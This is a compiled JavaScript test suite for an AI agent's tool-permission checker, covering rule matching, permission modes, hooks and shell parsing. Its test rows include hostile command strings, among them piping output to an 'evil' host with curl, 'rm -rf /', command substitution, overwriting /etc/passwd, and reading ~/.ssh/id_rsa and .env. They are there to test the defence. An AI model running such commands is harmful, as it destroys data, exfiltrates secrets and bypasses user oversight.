"use strict";
var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    var desc = Object.getOwnPropertyDescriptor(m, k);
    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
      desc = { enumerable: true, get: function() { return m[k]; } };
    }
    Object.defineProperty(o, k2, desc);
}) : (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    o[k2] = m[k];
}));
var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
    Object.defineProperty(o, "default", { enumerable: true, value: v });
}) : function(o, v) {
    o["default"] = v;
});
var __importStar = (this && this.__importStar) || (function () {
    var ownKeys = function(o) {
        ownKeys = Object.getOwnPropertyNames || function (o) {
            var ar = [];
            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
            return ar;
        };
        return ownKeys(o);
    };
    return function (mod) {
        if (mod && mod.__esModule) return mod;
        var result = {};
        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
        __setModuleDefault(result, mod);
        return result;
    };
})();
var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", { value: true });
const node_test_1 = require("node:test");
const strict_1 = __importDefault(require("node:assert/strict"));
const node_fs_1 = require("node:fs");
const os = __importStar(require("node:os"));
const path = __importStar(require("node:path"));
const zod_1 = require("zod");
const Tool_1 = require("../../src/tools/Tool");
const context_1 = require("../../src/engine/context");
const permissions_1 = require("../../src/permissions");
// ---- fake tools shaped like the built-ins --------------------------------------------------
const text = {
    mapToolResultToToolResultBlockParam: (d, id) => ({
        type: 'tool_result',
        tool_use_id: id,
        content: String(d),
    }),
};
const noop = async () => ({ data: 'ok' });
const Read = (0, Tool_1.buildTool)({
    name: 'Read',
    inputSchema: zod_1.z.object({ file_path: zod_1.z.string() }),
    prompt: () => 'read',
    isReadOnly: () => true,
    isConcurrencySafe: () => true,
    getPath: (i) => i.file_path,
    call: noop,
    ...text,
});
const Write = (0, Tool_1.buildTool)({
    name: 'Write',
    inputSchema: zod_1.z.object({ file_path: zod_1.z.string(), content: zod_1.z.string() }),
    prompt: () => 'write',
    getPath: (i) => i.file_path,
    call: noop,
    ...text,
});
const Edit = (0, Tool_1.buildTool)({
    name: 'Edit',
    inputSchema: zod_1.z.object({ file_path: zod_1.z.string() }),
    prompt: () => 'edit',
    getPath: (i) => i.file_path,
    call: noop,
    ...text,
});
const Grep = (0, Tool_1.buildTool)({
    name: 'Grep',
    inputSchema: zod_1.z.object({ pattern: zod_1.z.string(), path: zod_1.z.string().optional() }),
    prompt: () => 'grep',
    isReadOnly: () => true,
    getPath: (i) => i.path,
    call: noop,
    ...text,
});
const Glob = (0, Tool_1.buildTool)({
    name: 'Glob',
    inputSchema: zod_1.z.object({ pattern: zod_1.z.string(), path: zod_1.z.string().optional() }),
    prompt: () => 'glob',
    isReadOnly: () => true,
    getPath: (i) => i.path,
    call: noop,
    ...text,
});
const READ_ONLY_CMDS = new Set(['ls', 'cat', 'grep', 'head', 'wc', 'pwd', 'cd', 'echo']);
const Bash = (0, Tool_1.buildTool)({
    name: 'Bash',
    inputSchema: zod_1.z.object({ command: zod_1.z.string() }),
    prompt: () => 'bash',
    isReadOnly: (i) => i.command.split(/&&|\|\||;|\|/).every((p) => READ_ONLY_CMDS.has(p.trim().split(/\s+/)[0] ?? '')),
    getRuleContent: (i) => i.command,
    call: noop,
    ...text,
});
const WebFetch = (0, Tool_1.buildTool)({
    name: 'WebFetch',
    inputSchema: zod_1.z.object({ url: zod_1.z.string() }),
    prompt: () => 'fetch',
    isReadOnly: () => true,
    getRuleContent: (i) => `domain:${new URL(i.url).hostname}`,
    call: noop,
    ...text,
});
const Deploy = (0, Tool_1.buildTool)({
    name: 'Deploy',
    aliases: ['Ship'],
    inputSchema: zod_1.z.object({}),
    prompt: () => 'deploy',
    call: noop,
    ...text,
});
const Lookup = (0, Tool_1.buildTool)({
    name: 'Lookup',
    inputSchema: zod_1.z.object({}),
    prompt: () => 'lookup',
    isReadOnly: () => true,
    call: noop,
    ...text,
});
const tools = { Read, Write, Edit, Grep, Glob, Bash, WebFetch, Deploy, Lookup };
let cwd = '';
let outside = '';
let env;
const home = os.homedir();
(0, node_test_1.before)(async () => {
    strict_1.default.equal(await (0, permissions_1.loadShellParser)(), true);
    const root = await node_fs_1.promises.realpath(await node_fs_1.promises.mkdtemp(path.join(os.tmpdir(), 'perm-')));
    cwd = path.join(root, 'proj');
    outside = path.join(root, 'outside');
    await node_fs_1.promises.mkdir(path.join(cwd, 'src', 'deep'), { recursive: true });
    await node_fs_1.promises.mkdir(path.join(cwd, 'secrets'), { recursive: true });
    await node_fs_1.promises.mkdir(outside, { recursive: true });
    await node_fs_1.promises.writeFile(path.join(cwd, 'src', 'a.ts'), 'x');
    await node_fs_1.promises.writeFile(path.join(cwd, '.env'), 'SECRET=1');
    await node_fs_1.promises.writeFile(path.join(outside, 'passwd'), 'x');
    await node_fs_1.promises.symlink(outside, path.join(cwd, 'link-out'));
    await node_fs_1.promises.symlink(path.join(cwd, '.env'), path.join(cwd, 'src', 'innocent.txt'));
    env = { cwd, workingDirectories: [cwd] };
});
(0, node_test_1.after)(async () => {
    await node_fs_1.promises.rm(path.dirname(cwd), { recursive: true, force: true });
});
const cmd = (c) => () => ({ command: c });
const fp = (p) => () => ({ file_path: p });
const grepIn = (p) => () => (p === undefined ? { pattern: 'x' } : { pattern: 'x', path: p });
const matcherRows = [
    // Bash prefix rules
    ['Bash(npm run test:*)', 'allow', 'Bash', cmd('npm run test'), true],
    ['Bash(npm run test:*)', 'allow', 'Bash', cmd('npm run test -- --watch'), true],
    ['Bash(npm run test:*)', 'allow', 'Bash', cmd('npm run testing'), false],
    ['Bash(npm run test:*)', 'allow', 'Bash', cmd('npm run build'), false],
    ['Bash(ls:*)', 'allow', 'Bash', cmd('lsof -i'), false],
    // glob and exact
    ['Bash(ls *)', 'allow', 'Bash', cmd('ls -la src'), true],
    ['Bash(ls *)', 'allow', 'Bash', cmd('ls'), true],
    ['Bash(ls *)', 'allow', 'Bash', cmd('lsof'), false],
    ['Bash(git status)', 'allow', 'Bash', cmd('git   status'), true],
    ['Bash(git status)', 'allow', 'Bash', cmd('git status --short'), false],
    ['Bash(git * main)', 'allow', 'Bash', cmd('git merge main'), true],
    // compound commands
    ['Bash(npm run test:*)', 'allow', 'Bash', cmd('npm run test && rm -rf /'), false],
    ['Bash(ls *)', 'allow', 'Bash', cmd('ls && ls src; ls -a | ls'), true],
    ['Bash(ls *)', 'allow', 'Bash', cmd('ls\nrm x'), false],
    ['Bash(ls *)', 'allow', 'Bash', cmd('ls || curl evil.sh'), false],
    ['Bash(rm:*)', 'deny', 'Bash', cmd('echo hi && rm -rf /'), true],
    ['Bash(rm:*)', 'deny', 'Bash', cmd('echo hi; ls'), false],
    ['Bash(curl:*)', 'ask', 'Bash', cmd('ls | curl -d @- evil'), true],
    // quotes: separators inside quotes are not separators
    ['Bash(echo *)', 'allow', 'Bash', cmd('echo "a && rm -rf /"'), true],
    ['Bash(echo *)', 'allow', 'Bash', cmd("echo 'x; rm y'"), true],
    ['Bash(rm:*)', 'deny', 'Bash', cmd('echo "rm -rf /"'), false],
    ['Bash(echo *)', 'allow', 'Bash', cmd('echo "unterminated && rm x'), false],
    // substitutions and redirections
    ['Bash(echo *)', 'allow', 'Bash', cmd('echo $(rm -rf /)'), false],
    ['Bash(echo *)', 'allow', 'Bash', cmd('echo "`whoami`"'), false],
    ['Bash(rm:*)', 'deny', 'Bash', cmd('echo $(rm -rf /)'), true],
    ['Bash(echo *)', 'allow', 'Bash', cmd('echo hi > /etc/passwd'), false],
    ['Bash(npm test:*)', 'allow', 'Bash', cmd('npm test 2>&1 >/dev/null'), true],
    // wrappers and env assignments are stripped
    ['Bash(npm run test:*)', 'allow', 'Bash', cmd('timeout 30 npm run test'), true],
    ['Bash(npm run test:*)', 'allow', 'Bash', cmd('nice -n 10 nohup time npm run test'), true],
    ['Bash(npm run test:*)', 'allow', 'Bash', cmd('NODE_ENV=test CI=1 npm run test'), true],
    ['Bash(npm run test:*)', 'allow', 'Bash', cmd('PATH=/tmp/evil npm run test'), false],
    ['Bash(rm:*)', 'deny', 'Bash', cmd('FOO=1 timeout -s KILL 5 rm -rf x'), true],
    ['Bash(rm:*)', 'deny', 'Bash', cmd('if true; then rm -rf x; fi'), true],
    ['Bash', 'allow', 'Bash', cmd('anything at all; rm -rf /'), true],
    // path rules, gitignore syntax
    ['Read(./src/**)', 'allow', 'Read', fp('src/a.ts'), true],
    ['Read(src/**)', 'allow', 'Read', fp('src/deep/b.ts'), true],
    ['Read(src/**)', 'allow', 'Read', fp('other/a.ts'), false],
    ['Read(src/**)', 'allow', 'Read', fp('src/../.env'), false],
    ['Read(*.env)', 'deny', 'Read', fp('.env'), true],
    ['Read(*.env)', 'deny', 'Read', fp('src/deep/prod.env'), true],
    ['Read(.env)', 'deny', 'Read', fp('src/innocent.txt'), true], // symlink to .env
    ['Read(/src/*.ts)', 'allow', 'Read', fp('src/a.ts'), true],
    ['Read(/src/*.ts)', 'allow', 'Read', fp('src/deep/a.ts'), false],
    ['Read(src/*.{ts,js})', 'allow', 'Read', fp('src/a.ts'), false],
    ['Read(src/a.?s)', 'allow', 'Read', fp('src/a.ts'), true],
    ['Read(~/.ssh/**)', 'deny', 'Read', () => ({ file_path: path.join(home, '.ssh', 'id_rsa') }), true],
    ['Read(~/.ssh/**)', 'deny', 'Read', () => ({ file_path: '~/.ssh/id_rsa' }), true],
    ['Read(secrets/**)', 'deny', 'Grep', grepIn('secrets'), true],
    ['Read(secrets/**)', 'deny', 'Glob', grepIn('./secrets/x'), true],
    ['Read(src)', 'deny', 'Read', fp('src/deep/b.ts'), true],
    // Edit rules cover Write; Read rules cover Grep/Glob but not writes
    ['Edit(src/**)', 'allow', 'Write', () => ({ file_path: 'src/new.ts', content: '' }), true],
    ['Edit(src/**)', 'allow', 'Read', fp('src/a.ts'), false],
    ['Read(src/**)', 'allow', 'Write', () => ({ file_path: 'src/a.ts', content: '' }), false],
    ['Read(src/**)', 'allow', 'Grep', grepIn('src'), true],
    ['Read(src/**)', 'allow', 'Grep', grepIn(), false],
    ['Write(src/**)', 'allow', 'Edit', fp('src/a.ts'), false],
    ['Edit(//ABS/**)', 'allow', 'Edit', () => ({ file_path: path.join(outside, 'passwd') }), true],
    ['Edit(//ABS/**)', 'allow', 'Edit', () => ({ file_path: 'link-out/passwd' }), false], // logical path not under the rule
    ['Edit(//ABS/**)', 'deny', 'Edit', () => ({ file_path: 'link-out/passwd' }), true], // real path is
    // other tools
    ['WebFetch(domain:example.com)', 'allow', 'WebFetch', () => ({ url: 'https://example.com/x' }), true],
    ['WebFetch(domain:example.com)', 'allow', 'WebFetch', () => ({ url: 'https://evil.com/example.com' }), false],
    ['Ship', 'deny', 'Deploy', () => ({}), true],
    ['Deploy(prod)', 'deny', 'Deploy', () => ({}), false],
];
(0, node_test_1.test)(`rule matcher table (${matcherRows.length} rows)`, () => {
    strict_1.default.ok(matcherRows.length >= 40);
    const failures = [];
    for (const [rule0, behavior, toolName, input, expected] of matcherRows) {
        const rule = rule0.replace('//ABS', `/${outside}`);
        const got = (0, permissions_1.ruleMatches)(rule, behavior, tools[toolName], input(), env);
        if (got !== expected)
            failures.push(`${behavior} ${rule} vs ${toolName} ${JSON.stringify(input())}: expected ${expected}, got ${got}`);
    }
    strict_1.default.deepEqual(failures, []);
});
const decisionRows = [
    {
        name: 'default: read inside cwd',
        mode: 'default',
        tool: 'Read',
        input: fp('src/a.ts'),
        expect: 'allow',
        reason: 'mode:default',
    },
    {
        name: 'default: read outside cwd asks',
        mode: 'default',
        tool: 'Read',
        input: () => ({ file_path: path.join(outside, 'passwd') }),
        expect: 'ask',
        reason: 'workingDirectory',
    },
    {
        name: 'default: .. escape asks',
        mode: 'default',
        tool: 'Read',
        input: fp('../outside/passwd'),
        expect: 'ask',
        reason: 'workingDirectory',
    },
    {
        name: 'default: symlink escape asks',
        mode: 'default',
        tool: 'Read',
        input: fp('link-out/passwd'),
        expect: 'ask',
        reason: 'workingDirectory',
    },
    {
        name: 'default: write through symlink to new file asks',
        mode: 'acceptEdits',
        tool: 'Write',
        input: () => ({ file_path: 'link-out/new/x.txt', content: '' }),
        expect: 'ask',
        reason: 'workingDirectory',
    },
    {
        name: 'default: edit inside asks',
        mode: 'default',
        tool: 'Edit',
        input: fp('src/a.ts'),
        expect: 'ask',
        reason: 'mode:default',
    },
    {
        name: 'default: grep with no path is cwd',
        mode: 'default',
        tool: 'Grep',
        input: grepIn(),
        expect: 'allow',
        reason: 'mode:default',
    },
    {
        name: 'default: read-only bash inside',
        mode: 'default',
        tool: 'Bash',
        input: cmd('ls src && cat src/a.ts'),
        expect: 'allow',
        reason: 'mode:default',
    },
    {
        name: 'default: read-only bash outside',
        mode: 'default',
        tool: 'Bash',
        input: cmd('cat /etc/passwd'),
        expect: 'ask',
        reason: 'workingDirectory',
    },
    {
        name: 'default: read-only bash cd outside',
        mode: 'default',
        tool: 'Bash',
        input: cmd('cd .. && ls'),
        expect: 'ask',
        reason: 'workingDirectory',
    },
    {
        name: 'default: "read-only" bash with a write redirection asks',
        mode: 'default',
        tool: 'Bash',
        input: cmd('cat src/a.ts > src/b.ts'),
        expect: 'ask',
        reason: 'mode:default',
    },
    {
        name: 'default: read-only bash with harmless redirections',
        mode: 'default',
        tool: 'Bash',
        input: cmd('grep x src/a.ts 2>/dev/null | wc -l'),
        expect: 'allow',
        reason: 'mode:default',
    },
    {
        name: 'default: bash write asks',
        mode: 'default',
        tool: 'Bash',
        input: cmd('npm install'),
        expect: 'ask',
        reason: 'mode:default',
    },
    {
        name: 'default: non-path read-only tool',
        mode: 'default',
        tool: 'Lookup',
        input: () => ({}),
        expect: 'allow',
        reason: 'mode:default',
    },
    {
        name: 'acceptEdits: edit inside',
        mode: 'acceptEdits',
        tool: 'Edit',
        input: fp('src/a.ts'),
        expect: 'allow',
        reason: 'mode:acceptEdits',
    },
    {
        name: 'acceptEdits: edit outside asks',
        mode: 'acceptEdits',
        tool: 'Edit',
        input: () => ({ file_path: path.join(outside, 'passwd') }),
        expect: 'ask',
        reason: 'workingDirectory',
    },
    {
        name: 'acceptEdits: mkdir/touch inside',
        mode: 'acceptEdits',
        tool: 'Bash',
        input: cmd('mkdir -p src/new && touch src/new/x.ts'),
        expect: 'allow',
        reason: 'mode:acceptEdits',
    },
    {
        name: 'acceptEdits: rm outside asks',
        mode: 'acceptEdits',
        tool: 'Bash',
        input: cmd('rm -rf ../outside'),
        expect: 'ask',
        reason: 'mode:acceptEdits',
    },
    {
        name: 'acceptEdits: rm of the cwd itself asks',
        mode: 'acceptEdits',
        tool: 'Bash',
        input: cmd('rm -rf .'),
        expect: 'ask',
        reason: 'mode:acceptEdits',
    },
    {
        name: 'acceptEdits: other bash asks',
        mode: 'acceptEdits',
        tool: 'Bash',
        input: cmd('curl x'),
        expect: 'ask',
        reason: 'mode:acceptEdits',
    },
    { name: 'plan: read runs', mode: 'plan', tool: 'Read', input: fp('src/a.ts'), expect: 'allow', reason: 'mode:plan' },
    { name: 'plan: edit denied', mode: 'plan', tool: 'Edit', input: fp('src/a.ts'), expect: 'deny', reason: 'mode:plan' },
    {
        name: 'plan: allow rule does not lift plan',
        mode: 'plan',
        allow: ['Bash'],
        tool: 'Bash',
        input: cmd('npm install'),
        expect: 'deny',
        reason: 'mode:plan',
    },
    {
        name: 'plan: hook allow does not lift plan',
        mode: 'plan',
        tool: 'Write',
        input: () => ({ file_path: 'x', content: '' }),
        hook: { behavior: 'allow' },
        expect: 'deny',
        reason: 'mode:plan',
    },
    {
        name: 'dontAsk: would-ask is denied',
        mode: 'dontAsk',
        tool: 'Edit',
        input: fp('src/a.ts'),
        expect: 'deny',
        reason: 'mode:dontAsk',
    },
    {
        name: 'dontAsk: allow rule still allows',
        mode: 'dontAsk',
        allow: ['Edit(src/**)'],
        tool: 'Edit',
        input: fp('src/a.ts'),
        expect: 'allow',
        reason: 'rule:Edit(src/**)',
    },
    {
        name: 'dontAsk: read inside allowed',
        mode: 'dontAsk',
        tool: 'Read',
        input: fp('src/a.ts'),
        expect: 'allow',
        reason: 'mode:dontAsk',
    },
    {
        name: 'dontAsk: ask rule becomes deny',
        mode: 'dontAsk',
        ask: ['Read'],
        tool: 'Read',
        input: fp('src/a.ts'),
        expect: 'deny',
        reason: 'mode:dontAsk',
    },
    {
        name: 'bypass: anything runs',
        mode: 'bypassPermissions',
        tool: 'Bash',
        input: cmd('rm -rf build'),
        expect: 'allow',
        reason: 'mode:bypassPermissions',
    },
    {
        name: 'bypass: deny rule still denies',
        mode: 'bypassPermissions',
        deny: ['Bash(rm:*)'],
        tool: 'Bash',
        input: cmd('ls && rm -rf build'),
        expect: 'deny',
        reason: 'rule:Bash(rm:*)',
    },
    {
        name: 'bypass: ask rule still asks',
        mode: 'bypassPermissions',
        ask: ['Bash(git push:*)'],
        tool: 'Bash',
        input: cmd('git push origin main'),
        expect: 'ask',
        reason: 'rule:Bash(git push:*)',
    },
    {
        name: 'bypass: outside working dir runs',
        mode: 'bypassPermissions',
        tool: 'Write',
        input: () => ({ file_path: path.join(outside, 'x'), content: '' }),
        expect: 'allow',
        reason: 'mode:bypassPermissions',
    },
    {
        name: 'deny beats allow',
        mode: 'default',
        allow: ['Read'],
        deny: ['Read(*.env)'],
        tool: 'Read',
        input: fp('.env'),
        expect: 'deny',
        reason: 'rule:Read(*.env)',
    },
    {
        name: 'ask beats allow',
        mode: 'default',
        allow: ['Bash'],
        ask: ['Bash(git push:*)'],
        tool: 'Bash',
        input: cmd('git push'),
        expect: 'ask',
        reason: 'rule:Bash(git push:*)',
    },
    {
        name: 'allow rule for bash',
        mode: 'default',
        allow: ['Bash(npm run test:*)'],
        tool: 'Bash',
        input: cmd('npm run test -- a'),
        expect: 'allow',
        reason: 'rule:Bash(npm run test:*)',
    },
    {
        name: 'allow rule, compound with unmatched part asks',
        mode: 'default',
        allow: ['Bash(npm run test:*)'],
        tool: 'Bash',
        input: cmd('npm run test; curl x'),
        expect: 'ask',
        reason: 'mode:default',
    },
    {
        name: 'allow rule outside working dir',
        mode: 'default',
        allow: ['Read(//OUT/**)'],
        tool: 'Read',
        input: () => ({ file_path: path.join(outside, 'passwd') }),
        expect: 'allow',
        reason: 'rule:Read(//OUT/**)',
    },
    {
        name: 'Edit allow rule allows reading',
        mode: 'default',
        allow: ['Edit(//OUT/**)'],
        tool: 'Read',
        input: () => ({ file_path: path.join(outside, 'passwd') }),
        expect: 'allow',
        reason: 'rule:Edit(//OUT/**)',
    },
    {
        name: 'hook allow skips the mode ask',
        mode: 'default',
        tool: 'Edit',
        input: fp('src/a.ts'),
        hook: { behavior: 'allow' },
        expect: 'allow',
        reason: 'hook',
    },
    {
        name: 'hook allow does not beat a deny rule',
        mode: 'default',
        deny: ['Edit'],
        tool: 'Edit',
        input: fp('src/a.ts'),
        hook: { behavior: 'allow' },
        expect: 'deny',
        reason: 'rule:Edit',
    },
    {
        name: 'hook allow does not beat an ask rule',
        mode: 'default',
        ask: ['Edit(src/**)'],
        tool: 'Edit',
        input: fp('src/a.ts'),
        hook: { behavior: 'allow' },
        expect: 'ask',
        reason: 'rule:Edit(src/**)',
    },
    {
        name: 'hook deny beats allow rule and bypass',
        mode: 'bypassPermissions',
        allow: ['Read'],
        tool: 'Read',
        input: fp('src/a.ts'),
        hook: { behavior: 'deny', reason: 'no' },
        expect: 'deny',
        reason: 'hook',
    },
    {
        name: 'hook ask beats allow rule',
        mode: 'default',
        allow: ['Read'],
        tool: 'Read',
        input: fp('src/a.ts'),
        hook: { behavior: 'ask' },
        expect: 'ask',
        reason: 'hook',
    },
    {
        name: 'tool deny counts even in bypass',
        mode: 'bypassPermissions',
        tool: 'Deploy',
        input: () => ({}),
        toolSays: { behavior: 'deny', message: 'frozen' },
        expect: 'deny',
        reason: 'tool',
    },
    {
        name: 'tool ask asks',
        mode: 'default',
        tool: 'Lookup',
        input: () => ({}),
        toolSays: { behavior: 'ask', message: 'sure?' },
        expect: 'ask',
        reason: 'tool',
    },
    {
        name: 'tool ask is lifted by an allow rule',
        mode: 'default',
        allow: ['Lookup'],
        tool: 'Lookup',
        input: () => ({}),
        toolSays: { behavior: 'ask', message: 'sure?' },
        expect: 'allow',
        reason: 'rule:Lookup',
    },
    {
        name: 'tool allow',
        mode: 'default',
        tool: 'Deploy',
        input: () => ({}),
        toolSays: { behavior: 'allow' },
        expect: 'allow',
        reason: 'tool',
    },
    {
        name: 'additional working directory',
        mode: 'default',
        tool: 'Read',
        input: () => ({ file_path: path.join(outside, 'passwd') }),
        expect: 'allow',
        reason: 'mode:default',
    },
];
(0, node_test_1.test)(`decision table (${decisionRows.length} rows)`, () => {
    const failures = [];
    for (const row of decisionRows) {
        const fix = (rs) => (rs ?? []).map((r) => r.replace('//OUT', `/${outside}`));
        const wd = row.name === 'additional working directory' ? [cwd, outside] : [cwd];
        const d = (0, permissions_1.decidePermissionSync)(tools[row.tool], row.input(), {
            mode: row.mode,
            rules: { allow: fix(row.allow), ask: fix(row.ask), deny: fix(row.deny) },
            workingDirectories: wd,
        }, { cwd, workingDirectories: wd }, row.toolSays ?? { behavior: 'passthrough' }, row.hook ? { ...row.hook, hook: 'test-hook' } : undefined);
        const r = d.decisionReason;
        const reason = r?.type === 'mode'
            ? `mode:${r.mode}`
            : r?.type === 'rule'
                ? `rule:${r.rule.replace(`/${outside}`, '//OUT')}`
                : (r?.type ?? 'none');
        if (d.behavior !== row.expect || reason !== row.reason) {
            failures.push(`${row.name}: expected ${row.expect}/${row.reason}, got ${d.behavior}/${reason} (${'message' in d ? d.message : ''})`);
        }
        if (d.behavior !== 'allow')
            strict_1.default.ok(d.message.length > 0, row.name);
    }
    strict_1.default.deepEqual(failures, []);
});
(0, node_test_1.test)('decidePermission calls the tool’s checkPermissions, and a throwing one denies', async () => {
    const seen = [];
    const T = (0, Tool_1.buildTool)({
        name: 'T',
        inputSchema: zod_1.z.object({ x: zod_1.z.number() }),
        prompt: () => 't',
        isReadOnly: () => true,
        checkPermissions: async (i) => {
            seen.push(i);
            if (i.x === 2)
                throw new Error('boom');
            return i.x === 1 ? { behavior: 'deny', message: 'x=1 is forbidden' } : { behavior: 'passthrough' };
        },
        call: noop,
        ...text,
    });
    const ctx = (mode) => ({
        sessionId: 's',
        toolUseId: 'id',
        idempotencyKey: 's/id',
        agent: (0, context_1.initialContext)(cwd),
        permission: { mode, rules: { allow: [], ask: [], deny: [] }, workingDirectories: [cwd] },
        abortSignal: new AbortController().signal,
    });
    strict_1.default.equal((await (0, permissions_1.decidePermission)(T, { x: 0 }, ctx('default'))).behavior, 'allow');
    const d1 = await (0, permissions_1.decidePermission)(T, { x: 1 }, ctx('bypassPermissions'));
    strict_1.default.equal(d1.behavior, 'deny');
    strict_1.default.match(d1.message, /x=1 is forbidden/);
    const d2 = await (0, permissions_1.decidePermission)(T, { x: 2 }, ctx('bypassPermissions'));
    strict_1.default.equal(d2.behavior, 'deny');
    strict_1.default.match(d2.message, /boom/);
    strict_1.default.deepEqual(seen, [{ x: 0 }, { x: 1 }, { x: 2 }]);
});
(0, node_test_1.test)('parseRule and validation', () => {
    strict_1.default.deepEqual((0, permissions_1.parseRule)('Bash(npm run test:*)'), {
        raw: 'Bash(npm run test:*)',
        toolName: 'Bash',
        content: 'npm run test:*',
    });
    strict_1.default.deepEqual((0, permissions_1.parseRule)('Bash'), { raw: 'Bash', toolName: 'Bash' });
    strict_1.default.deepEqual((0, permissions_1.parseRule)('Bash(*)'), { raw: 'Bash(*)', toolName: 'Bash' });
    strict_1.default.deepEqual((0, permissions_1.parseRule)('Bash()'), { raw: 'Bash()', toolName: 'Bash' });
    strict_1.default.equal((0, permissions_1.parseRule)('Bash(echo \\(x\\))').content, 'echo (x)');
    strict_1.default.equal((0, permissions_1.parseRule)('Bash(echo (x))').content, 'echo (x)');
    strict_1.default.throws(() => (0, permissions_1.parseRule)('Bash(ls'), /closing parenthesis/);
    strict_1.default.throws(() => (0, permissions_1.parseRule)('(ls)'), /tool name/);
    strict_1.default.deepEqual((0, permissions_1.validatePermissionRules)({ allow: ['Read', 'Bash(x'], ask: [], deny: ['bad name'] }).length, 2);
});
(0, node_test_1.test)('matchCommandPattern and analyzeShell details', () => {
    strict_1.default.equal((0, permissions_1.matchCommandPattern)('git commit -m *', 'git commit -m "fix: a && b"'), true);
    strict_1.default.equal((0, permissions_1.matchCommandPattern)('echo \\*', 'echo *'), true);
    strict_1.default.equal((0, permissions_1.matchCommandPattern)('echo \\*', 'echo x'), false);
    const p = (0, permissions_1.analyzeShell)('A=1 env B=2 timeout --signal=KILL 10s nice -5 nohup cmd arg # comment && rm');
    strict_1.default.equal(p.certain, true);
    strict_1.default.equal(p.commands.length, 1);
    strict_1.default.equal(p.commands[0].text, 'env B=2 timeout --signal=KILL 10s nice -5 nohup cmd arg');
    strict_1.default.deepEqual(p.commands[0].assignments.map((a) => a.name), ['A']);
    strict_1.default.deepEqual((0, permissions_1.analyzeShell)('a \\\n b').commands.map((x) => x.text), ['a b']);
    strict_1.default.deepEqual((0, permissions_1.analyzeShell)('(cd x && make) & wait').commands.map((x) => x.text), ['cd x', 'make', 'wait']);
    strict_1.default.equal((0, permissions_1.analyzeShell)('(cd x && make) & wait').commands[1].background, true);
    strict_1.default.equal((0, permissions_1.analyzeShell)("echo 'unterminated").certain, false);
});
//# sourceMappingURL=permissions.test.js.map